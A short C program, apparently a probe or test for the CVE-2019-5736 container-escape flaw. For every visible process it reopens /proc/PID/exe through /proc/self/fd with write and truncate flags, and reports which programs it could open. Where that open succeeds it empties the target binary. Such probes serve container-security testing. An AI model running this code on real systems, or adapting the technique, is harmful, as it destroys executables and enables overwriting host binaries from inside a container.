/* SPDX-License-Identifier: Apache-2.0 */

/* Tries to write to the program of every process that it can see, as CVE-2019-5736 did. Prints what
 * could be opened. */

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static void attack(const char *pid)
{
    static const struct timespec pause = {.tv_nsec = 1000000};
    char path[300];
    int handle;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    handle = open(path, O_PATH);
    if (handle < 0)
        return;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
    for (int i = 0; i < 20; i++) {
        int fd = open(path, O_WRONLY | O_TRUNC);

        if (fd >= 0) {
            printf("opened the program of %s for writing\n", pid);
            close(fd);
            break;
        }
        nanosleep(&pause, NULL);
    }
    close(handle);
}

int main(void)
{
    for (int round = 0; round < 5; round++) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc != NULL && (entry = readdir(proc)) != NULL)
            if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
                attack(entry->d_name);
        if (proc != NULL)
            closedir(proc);
    }
    puts("done");
    return 0;
}
